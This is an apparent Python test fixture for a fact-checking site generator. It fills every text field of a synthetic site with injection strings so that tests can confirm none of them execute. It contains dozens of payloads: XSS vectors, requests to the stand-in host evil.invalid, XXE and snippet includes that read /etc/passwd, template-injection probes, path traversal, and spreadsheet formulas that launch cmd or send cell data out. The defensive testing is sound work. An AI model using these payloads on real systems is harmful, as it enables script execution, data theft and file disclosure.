"""Strings that try to become script, markup, a request to elsewhere, a template, a path or a formula.

Every one that runs calls ``hit``, opens a dialog or asks the host ``evil.invalid``, so that a browser can tell.
"""

from dataclasses import replace

from figurecheck.claims.model import Article
from figurecheck.pages.context import (
    ArticleContext,
    ClaimContext,
    CorrectionFacts,
    OddityFacts,
    SeriesFacts,
    SiteContext,
)
from figurecheck.pages.refreshes import ChangeFacts, HealthFacts
from figurecheck.verdicts.outcome import AsOf, Choice, Measurement, PartOutcome, ReadingOutcome, Verdict
from figurecheck.verdicts.rule import judge_part
from small_site import BAND, LATEST, START, facts, measurement, outcome, reading, series, small_site

SCRIPTS = (
    "<script>hit()</script>",
    "<SCRIPT>hit()</SCRIPT>",
    "<script src=//evil.invalid/x.js></script>",
    "<script/src='https://evil.invalid/x.js'></script>",
    "<script\n>hit()</script\n>",
    "</script><script>hit()</script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<<script>hit();//<</script>",
    "<script>hit()",
    "<script type=module>import('https://evil.invalid/')</script>",
    "</title><script>hit()</script>",
    "</textarea><script>hit()</script>",
    "</style><script>hit()</script>",
    "</code></pre><script>hit()</script>",
    "--><script>hit()</script>",
    "]]><script>hit()</script>",
    '"><script>hit()</script>',
    "'><script>hit()</script>",
    '" autofocus onfocus="hit()',
    "' autofocus onfocus='hit()",
    '" onmouseover="hit()" x="',
    "%3Cscript%3Ehit()%3C/script%3E",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "\\x3cscript\\x3ehit()\\x3c/script\\x3e",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "&#x3c;script&#x3e;hit()&#x3c;/script&#x3e;",
    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}hit()",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "\N{ZERO WIDTH SPACE}<script>hit()</script>",
    "\N{RIGHT-TO-LEFT OVERRIDE}<script>hit()</script>",
    "<scr\x00ipt>hit()</scr\x00ipt>",
)
ELEMENTS = (
    "<img src=x onerror=hit()>",
    '<img src=x onerror="hit()">',
    "<IMG SRC=x OnErRoR=hit()>",
    "<img/src=x/onerror=hit()>",
    "<img src=https://evil.invalid/pixel.gif>",
    "<img srcset=https://evil.invalid/pixel.gif>",
    "<image href=x onerror=hit()>",
    "<svg onload=hit()>",
    "<svg/onload=hit()//",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><set onbegin=hit() attributeName=x to=1>",
    "<svg><use href=https://evil.invalid/x.svg#a />",
    "<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>",
    '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
    "<body onload=hit()>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=https://evil.invalid/></iframe>",
    "<object data=https://evil.invalid/x></object>",
    "<embed src=https://evil.invalid/x>",
    "<video src=x onerror=hit()></video>",
    "<audio src=x onerror=hit()></audio>",
    "<video><source onerror=hit() src=x></video>",
    "<details open ontoggle=hit()>",
    "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()>",
    "<textarea autofocus onfocus=hit()>",
    "<marquee onstart=hit()>x</marquee>",
    "<style>@import 'https://evil.invalid/x.css';</style>",
    "<style>*{background:url(https://evil.invalid/x)}</style>",
    '<div style="background:url(https://evil.invalid/x)">x</div>',
    "<p style='animation:x' onanimationstart=hit()>x</p>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "<link rel=prefetch href=https://evil.invalid/x>",
    "<base href=https://evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    '<meta http-equiv=refresh content="0;url=javascript:hit()">',
    "<form action=https://evil.invalid/><button autofocus>x</button></form>",
    "<a href=https://evil.invalid/ ping=https://evil.invalid/p>x</a>",
    "<template><script>hit()</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=hit()>">',
    "<xmp><script>hit()</script></xmp>",
    '<!--<img src="--><img src=x onerror=hit()//">',
    '<?xml version="1.0"?><x onload=hit()>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    '<details class="fc-details" markdown="1" onclick=hit()>',
    "</table></div><img src=x onerror=hit()>",
    "</svg><img src=x onerror=hit()>",
    "</p><p onclick=hit()>",
)
MARKDOWN = (
    "[x](javascript:hit())",
    "[x](JaVaScRiPt:hit())",
    "[x](java\tscript:hit())",
    "[x](javascript&#58;hit())",
    "[x](<javascript:hit()>)",
    "[x](data:text/html,<script>hit()</script>)",
    "[x](vbscript:hit())",
    "[x]: javascript:hit()",
    "![x](https://evil.invalid/pixel.gif)",
    '![x](x"onerror="hit())',
    "![x](x){ onerror=hit() }",
    "<javascript:hit()>",
    "<https://evil.invalid/>",
    "x { onclick=hit() }",
    '{: onclick="hit()" }',
    "# x { onclick=hit() }",
    "```html\n<script>hit()</script>\n```",
    "    <script>hit()</script>",
    '!!! note "<script>hit()</script>"',
    "*[HTML]: <script>hit()</script>",
    "[^1]: <script>hit()</script>",
    "| a | <img src=x onerror=hit()> |",
    "a | b | c |\n|--|--|\n| <svg onload=hit()> |",
    '--8<-- "/etc/passwd"',
    '--8<-- "../../mkdocs.yml"',
    ';--8<-- "https://evil.invalid/x.md"',
    "--- \ntitle: <script>hit()</script>\n---",
    "$\\href{javascript:hit()}{x}$",
)
TEMPLATES = (
    "{{ 7 * 7 }}{{ config.__class__ }}",
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ '<script>hit()</script>' | safe }}",
    "{%- raw -%}<script>hit()</script>{%- endraw -%}",
    "${hit()}",
    "#{hit()}",
    "<%= hit() %>",
)
PATHS = (
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "%2e%2e%2fetc%2fpasswd",
    "x\x00.md",
)
FORMULAS = (
    '=HYPERLINK("https://evil.invalid/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '  =IMPORTXML("https://evil.invalid/","//a")',
)
INJECTIONS = (*SCRIPTS, *ELEMENTS, *MARKDOWN, *TEMPLATES, *PATHS, *FORMULAS)


def injected_site() -> SiteContext:
    """A site in which string number n stands alone in every text of claim n, of section n, proxy n and series n.

    What a site has only once (headline, publisher and so on) holds all strings together. The model of an article
    refuses most of them; they are put past it, so that the pages have to stand on their own.
    """
    plain = small_site("Plain words")
    told = _article(plain.articles[0].article)
    claims = tuple(_claim(told, at, text, plain.articles[0]) for at, text in enumerate(INJECTIONS))
    known = tuple(_series(at, text) for at, text in enumerate(INJECTIONS))
    health = tuple(_health(at, text) for at, text in enumerate(INJECTIONS))
    gone = tuple(replace(plain.unavailable[0], id=text, title=text, reason=text) for text in INJECTIONS)
    article = ArticleContext(told, claims, plain.articles[0].picture)
    return replace(
        plain,
        articles=(article,),
        series=(*plain.series, *known),
        unavailable=gone,
        version=INJECTIONS[0],
        health=health,
    )


def _article(told: Article) -> Article:
    every = " ".join(INJECTIONS)
    texts = dict.fromkeys(("headline", "byline", "publisher", "summary"), every)
    section, proxy, left = told.sections[0], told.proxies[0], told.not_checked[0]
    claim = told.claims[0]
    numbered = list(enumerate(INJECTIONS))
    stands_in = [entry.model_copy(update={"why": text}) for text in INJECTIONS[:3] for entry in proxy.series]
    return told.model_copy(
        update={
            "article": told.article.model_copy(update=texts),
            "sections": tuple(
                section.model_copy(update={"id": f"s{at}", "title": text, "retelling": text}) for at, text in numbered
            ),
            "proxies": tuple(
                proxy.model_copy(update={"id": f"p{at}", "title": text, "why": text, "series": tuple(stands_in)})
                for at, text in numbered
            ),
            "not_checked": tuple(
                left.model_copy(update={"section": f"s{at}", "paraphrase": text, "why": text}) for at, text in numbered
            ),
            "claims": tuple(
                claim.model_copy(
                    update={
                        "id": f"claim-{at}",
                        "section": f"s{at}",
                        "title": text if at % 2 else None,
                        "paraphrase": text,
                        "stated": text,
                        "attributed_to": (text, text),
                        "note": text,
                    }
                )
                for at, text in numbered
            ),
        }
    )


def _claim(told: Article, at: int, text: str, plain: ArticleContext) -> ClaimContext:
    """Claim ``at``: a measured one with its charts, or on every fourth place one that cannot be tested."""
    claim, name = told.claims[at], f"claim-{at}"
    if at % 4 == 3:
        claim = claim.model_copy(update={"parts": (), "needs": (text, text)})
        outcomes = [replace(outcome(name, when, ()), reason=text) for when in AsOf]
        return ClaimContext(claim, outcomes[0], outcomes[1], ())
    part = _part(text)
    outcomes = [replace(outcome("coin", when, (part,)), claim=name, reason=text) for when in AsOf]
    pictures = tuple(
        replace(each, name=f"{name}-{each.name}", title=text, caption=text) for each in plain.claims[0].pictures[:1]
    )
    return ClaimContext(claim, outcomes[0], outcomes[1], pictures)


def _part(text: str) -> PartOutcome:
    choices = (Choice("series", "COIN", text), Choice("window", text, text))
    whole = replace(reading(_measured(text), "x", primary=True), choices=choices)
    other = ReadingOutcome(choices, primary=False, measurement=None, reason=text)
    others = (other, replace(whole, primary=False))
    tests = judge_part("one", text, whole, others).tests
    return PartOutcome("one", text, Verdict.FAILS, whole, others, tests, ("window",))


def _measured(text: str) -> Measurement:
    target = replace(BAND, why=text)
    measured = measurement("COIN", 7.0, 40.0, target, title=text, proxy=False)
    return replace(measured, method=text, parameters={text: text})


def _series(at: int, text: str) -> SeriesFacts:
    """Series ``at`` with the text in everything that a provider or a record says."""
    licence = replace(series("COIN").licence, title=text, note=text)
    one = replace(series("COIN"), id=f"S{at}", title=text, unit=text, code=text, note=text, licence=licence)
    correction = CorrectionFacts(START, text, 1.5, None, text, text)
    return replace(
        facts(one),
        origin=text,
        adjustment=text,
        notes=(text, text),
        sha256=text,
        corrections=(correction,),
        kept=(OddityFacts(START, text, 1.5, text),),
    )


def _health(at: int, text: str) -> HealthFacts:
    return HealthFacts(
        series=f"S{at}",
        state="refused",
        last_attempt=LATEST,
        last_success=None,
        reason=text,
        notices=(text,),
        changes=(ChangeFacts(START, text, 1.0, None, text, accepted=False),),
        refusals=1,
    )
